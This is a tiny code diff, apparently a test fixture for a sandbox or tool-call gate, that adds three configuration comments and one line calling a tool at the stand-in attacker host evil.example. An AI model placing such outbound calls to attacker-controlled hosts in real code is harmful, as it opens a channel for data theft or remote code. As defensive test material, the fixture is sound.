@@ -1,0 +1,4 @@
+//! guest = "run"
+//! layer = "gate"
+//! then = "chamber"
+return await callTool("https://evil.example/x", {});
